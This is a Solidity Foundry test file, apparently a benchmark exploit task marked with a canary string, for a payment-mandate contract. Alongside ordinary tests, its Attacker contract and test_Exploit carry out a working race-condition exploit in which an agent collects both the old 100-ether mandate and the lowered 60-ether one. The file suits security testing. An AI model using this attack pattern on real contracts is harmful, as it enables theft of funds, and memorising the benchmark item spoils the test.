// SPDX-License-Identifier: MIT
pragma solidity 0.7.6;

import "./PaymentMandates.sol";

// assay-canary-a80e2d85-9818-4164-9f19-600b9391138d

interface Vm {
    function deal(address account, uint256 amount) external;
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Stone {}

contract Sums {
    using BoundedArithmetic for uint256;

    function plus(uint256 first, uint256 second) external pure returns (uint256) {
        return first.plus(second);
    }
}

// A tenant, whose next transaction waits for a block: it lowers the mandate of the landlord from a hundred ether to sixty.
contract Tenant {
    PaymentMandates private mandates;
    address private landlord;
    bool private sent;

    constructor(PaymentMandates m) payable {
        mandates = m;
        m.deposit{value: msg.value}();
    }

    function give(address agent) external {
        require(landlord == address(0), "given");
        landlord = agent;
        mandates.changeMandate(agent, 0, 100 ether, 365 days);
    }

    function pending() external {
        require(!sent, "sent");
        sent = true;
        mandates.changeMandate(landlord, 100 ether, 60 ether, 365 days);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address payable private constant ANA = address(0xA9A);
    address payable private constant BEN = address(0xBE9);
    address payable private constant CAT = address(0xCA7);
    uint256 private constant START = 1_700_000_000;

    PaymentMandates private mandates;
    Tenant private tenant;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        vm.deal(address(this), 400 ether);
        mandates = new PaymentMandates();
        tenant = new Tenant{value: 300 ether}(mandates);
        mallory = new Attacker(mandates, tenant);
        tenant.give(address(mallory));
        vm.deal(ANA, 100 ether);
        vm.startPrank(ANA);
        mandates.deposit{value: 50 ether}();
        mandates.changeMandate(BEN, 0, 20 ether, 30 days);
        vm.stopPrank();
    }

    function test_Regular() public {
        require(mandates.collectable(ANA, BEN) == 20 ether && mandates.collectable(ANA, CAT) == 0, "collectable");
        vm.prank(BEN);
        mandates.collect(ANA, CAT, 5 ether);
        require(CAT.balance == 5 ether && mandates.depositedBy(ANA) == 45 ether, "collected");
        vm.prank(ANA);
        mandates.changeMandate(BEN, 15 ether, 40 ether, 60 days);
        (uint256 remainder, uint256 expiry) = mandates.mandateOf(ANA, BEN);
        require(remainder == 40 ether && expiry == START + 60 days, "changed");
        require(mandates.isInForce(expiry, START + 60 days) && !mandates.isInForce(expiry, START + 60 days + 1), "in force");
        vm.warp(START + 60 days);
        vm.prank(BEN);
        mandates.collect(ANA, BEN, 40 ether);
        require(BEN.balance == 40 ether, "all of it");
        vm.startPrank(ANA);
        mandates.changeMandate(CAT, 0, 1 ether, 1 days);
        mandates.revokeMandate(CAT);
        mandates.changeMandate(CAT, 0, 2 ether, 1 days);
        vm.stopPrank();
        vm.prank(CAT);
        mandates.renounceMandate(ANA);
        (remainder, expiry) = mandates.mandateOf(ANA, CAT);
        require(remainder == 0 && expiry == 0, "renounced");
        vm.prank(ANA);
        mandates.withdraw(CAT, 5 ether);
        require(CAT.balance == 10 ether && mandates.depositedBy(ANA) == 0, "withdrawn");
        vm.deal(address(this), 2 ether);
        mandates.depositFor{value: 2 ether}(ANA);
        vm.prank(ANA);
        mandates.changeMandate(CAT, 0, 3 ether, 1 days);
        require(mandates.collectable(ANA, CAT) == 2 ether, "no more than the deposit");
        tenant.pending();
        (remainder, ) = mandates.mandateOf(address(tenant), address(mallory));
        require(remainder == 60 ether, "lowered");
    }

    function test_RefusesMandates() public {
        vm.startPrank(ANA);
        vm.expectRevert("An agent is another account than the payer.");
        mandates.changeMandate(address(0), 0, 1, 1);
        vm.expectRevert("An agent is another account than the payer.");
        mandates.changeMandate(ANA, 0, 1, 1);
        vm.expectRevert("A mandate of nothing is revoked instead.");
        mandates.changeMandate(CAT, 0, 0, 1);
        vm.expectRevert("The term of a mandate is two years at most.");
        mandates.changeMandate(CAT, 0, 1, 0);
        vm.expectRevert("The term of a mandate is two years at most.");
        mandates.changeMandate(CAT, 0, 1, 730 days + 1);
        vm.expectRevert("The remainder is not the one that was stated.");
        mandates.changeMandate(BEN, 20 ether - 1, 1, 1);
        vm.stopPrank();
    }

    function test_RefusesCollections() public {
        vm.startPrank(BEN);
        vm.expectRevert("The difference would be negative.");
        mandates.collect(ANA, BEN, 20 ether + 1);
        vm.expectRevert("The recipient must not be the zero address.");
        mandates.collect(ANA, address(0), 1);
        vm.warp(START + 30 days + 1);
        vm.expectRevert("The mandate has expired, or was never given.");
        mandates.collect(ANA, BEN, 1);
        vm.stopPrank();
        vm.prank(CAT);
        vm.expectRevert("The mandate has expired, or was never given.");
        mandates.collect(ANA, CAT, 0);
    }

    function test_RefusesWithdrawals() public {
        address payable stone = payable(address(new Stone()));
        vm.startPrank(ANA);
        vm.expectRevert("The difference would be negative.");
        mandates.withdraw(ANA, 50 ether + 1);
        vm.expectRevert("The recipient must not be the zero address.");
        mandates.withdraw(address(0), 1);
        vm.expectRevert("The recipient did not accept the ether.");
        mandates.withdraw(stone, 1);
        vm.stopPrank();
        vm.expectRevert("The payer must not be the zero address.");
        mandates.depositFor(address(0));
    }

    function test_RefusesLargeSums() public {
        Sums sums = new Sums();
        require(sums.plus(uint256(-1), 0) == uint256(-1), "the largest");
        vm.expectRevert("The sum is too large to be represented.");
        sums.plus(uint256(-1), 1);
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(address(mallory).balance == 160 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(mandates);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    PaymentMandates private mandates;
    Tenant private tenant;

    constructor(PaymentMandates m, Tenant t) {
        mandates = m;
        tenant = t;
    }

    // the tenant's transaction waits, and comes into the block between two of the landlord's
    function run() external {
        mandates.collect(address(tenant), address(this), 100 ether);
        tenant.pending();
        mandates.collect(address(tenant), address(this), 60 ether);
    }

    receive() external payable {}
}
